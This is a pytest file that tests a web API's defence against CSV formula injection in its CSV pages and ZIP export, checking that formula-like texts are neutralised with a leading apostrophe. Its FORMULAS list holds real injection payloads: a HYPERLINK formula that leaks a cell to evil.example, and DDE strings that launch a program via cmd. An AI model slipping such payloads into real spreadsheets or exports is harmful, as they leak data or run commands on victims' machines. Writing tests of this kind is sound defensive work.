"""CSV formula injection: text someone wrote must not run as a formula when a CSV page or the
ZIP export is opened in a spreadsheet; numbers stay numbers."""

import csv
import io
import zipfile

import pytest

from app.core.representations import items_to_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _rows(csv_bytes: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8"), newline="")))


@pytest.fixture(scope="module")
def written(writable_client, auth):
    """Status updates whose texts are formulas, and a negative figure with a formula-like
    printed value, as any key holder could write them."""
    for formula in FORMULAS:
        response = writable_client.post(
            "/v1/goals/A1/statuses", json={"asOf": "2022-03-01", "text": formula}, headers=auth
        )
        assert response.status_code == 201, response.text
    figure = {"value": -2.5, "valueText": "-2,5 %", "status": "final", "footnote": "=1+1"}
    response = writable_client.put(
        "/v1/metrics/M7.1/measurements/2031", json=figure, headers=auth | {"If-None-Match": "*"}
    )
    assert response.status_code == 201, response.text


def test_formula_texts_are_inert_in_a_csv_page(writable_client, written):
    response = writable_client.get("/v1/goals/A1/statuses?format=csv&pageSize=500")
    texts = [row["text"] for row in _rows(response.content)]
    for formula in FORMULAS:
        assert "'" + formula in texts
    # The JSON keeps each text exactly as written.
    stored = writable_client.get("/v1/goals/A1/statuses?pageSize=500").json()["items"]
    assert {item["text"] for item in stored} >= set(FORMULAS)


def test_numbers_stay_numbers_and_printed_values_are_inert(writable_client, written):
    response = writable_client.get("/v1/metrics/M7.1/measurements?format=csv&pageSize=500")
    [row] = [row for row in _rows(response.content) if row["period"] == "2031"]
    assert row["value"] == "-2.5"
    assert row["valueText"] == "'-2,5 %"
    assert row["footnote"] == "'=1+1"


def test_formula_texts_are_inert_in_the_zip_export(writable_client, written):
    response = writable_client.get("/v1/export?format=zip")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        statuses = _rows(archive.read("statuses.csv"))
        measurements = _rows(archive.read("measurements.csv"))
    texts = [row["text"] for row in statuses]
    for formula in FORMULAS:
        assert "'" + formula in texts
        assert formula not in texts
    [row] = [r for r in measurements if r["metricCode"] == "M7.1" and r["period"] == "2031"]
    assert (row["value"], row["valueText"], row["footnote"]) == ("-2.5", "'-2,5 %", "'=1+1")


def test_cells_beginning_with_a_tab_or_carriage_return_are_inert():
    # The API strips surrounding whitespace from what it stores; any text that reaches a CSV
    # with a leading tab or carriage return is neutralised all the same.
    items = [{"text": "\t=1+1", "note": "\r=1+1", "value": -1}]
    [row] = _rows(items_to_csv(items, [("text",), ("note",), ("value",)]))
    assert row == {"text": "'\t=1+1", "note": "'\r=1+1", "value": "-1"}
